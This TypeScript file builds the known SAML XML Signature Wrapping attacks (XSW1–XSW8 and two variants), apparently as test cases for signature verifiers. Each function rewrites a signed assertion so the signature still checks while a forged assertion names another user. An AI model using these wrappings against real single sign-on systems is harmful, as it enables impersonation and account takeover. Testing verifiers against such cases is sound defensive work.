/**
 * Signature wrapping, the eight ways that are known by number (Somorovsky et al., "On Breaking SAML"): the signature stays good over
 * what was signed, while whoever reads the document finds somebody else.
 */

interface Parts {
  head: string;
  /** The signed assertion, its signature, and it without. */
  assertion: string;
  signature: string;
  bare: string;
  tail: string;
}

function partsOf(xml: string): Parts {
  const [, head, assertion, tail] = /^([\s\S]*?)(<saml:Assertion [\s\S]*<\/saml:Assertion>)([\s\S]*)$/.exec(xml)!;
  const [signature] = /<ds:Signature [\s\S]*<\/ds:Signature>/.exec(assertion!)!;
  return { head: head!, assertion: assertion!, signature, bare: assertion!.replace(signature, ''), tail: tail! };
}

const evil = (text: string) => text.replace(/ ID="[^"]*"/, ' ID="_evil"').replace(/(<saml:NameID[^>]*>)[^<]*/, '$1eve@corp.example');
/** After the issuer, where a signature stands. */
const withSignature = (bare: string, signature: string) => bare.replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);
const withObject = (signature: string, inside: string) => signature.replace('</ds:Signature>', () => `<ds:Object>${inside}</ds:Object></ds:Signature>`);

/** `signed`: an answer whose assertion is signed; the first two take one whose response is signed as well. */
export const WRAPPINGS: Record<string, (signed: string) => string> = {
  'XSW1: the signed response in the signature of another': (xml) => {
    const [signature] = responseSignature(xml);
    return evilResponse(xml, signature).replace(signature, () => withObject(signature, xml.replace(signature, '')));
  },
  'XSW2: the signed response before its signature, in another': (xml) => {
    const [signature] = responseSignature(xml);
    return evilResponse(xml, signature).replace(signature, () => xml.replace(signature, '') + signature);
  },
  'XSW3: another assertion before the signed one': (xml) => {
    const { head, assertion, bare, tail } = partsOf(xml);
    return head + evil(bare) + assertion + tail;
  },
  'XSW4: another assertion around the signed one': (xml) => {
    const { head, assertion, bare, tail } = partsOf(xml);
    return head + evil(bare).replace('</saml:Assertion>', () => `${assertion}</saml:Assertion>`) + tail;
  },
  'XSW5: another assertion with its signature, the signed one after it': (xml) => {
    const { head, signature, bare, tail } = partsOf(xml);
    return head + withSignature(evil(bare), signature) + bare + tail;
  },
  'XSW6: the signed assertion in its signature, in another': (xml) => {
    const { head, signature, bare, tail } = partsOf(xml);
    return head + withSignature(evil(bare), withObject(signature, bare)) + tail;
  },
  'XSW7: another assertion in an extension': (xml) => {
    const { head, assertion, bare, tail } = partsOf(xml);
    return `${head}<samlp:Extensions>${evil(bare)}</samlp:Extensions>${assertion}${tail}`;
  },
  'XSW8: the signed assertion in an object of the signature of another': (xml) => {
    const { head, signature, bare, tail } = partsOf(xml);
    return head + withSignature(evil(bare), withObject(signature, `<x xmlns="urn:x">${bare}</x>`)) + tail;
  },
  'the signed assertion without its place, in an attribute of another': (xml) => {
    const { head, assertion, bare, tail } = partsOf(xml);
    const value = `<saml:AttributeStatement><saml:Attribute Name="a"><saml:AttributeValue>${assertion}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`;
    return head + evil(bare).replace('</saml:Assertion>', () => `${value}</saml:Assertion>`) + tail;
  },
  'the signature of one assertion on another with its id': (xml) => {
    const { head, signature, bare, tail } = partsOf(xml);
    return head + withSignature(evil(bare).replace('ID="_evil"', / ID="[^"]*"/.exec(bare)![0].trim()), signature) + tail;
  },
};

function responseSignature(xml: string): RegExpExecArray {
  return /<ds:Signature [\s\S]*?<\/ds:Signature>/.exec(xml)!;
}

function evilResponse(xml: string, signature: string): string {
  const { head, bare, tail } = partsOf(xml);
  return head.replace(/ ID="[^"]*"/, ' ID="_evilresponse"') + evil(bare) + tail.replace(signature, '');
}
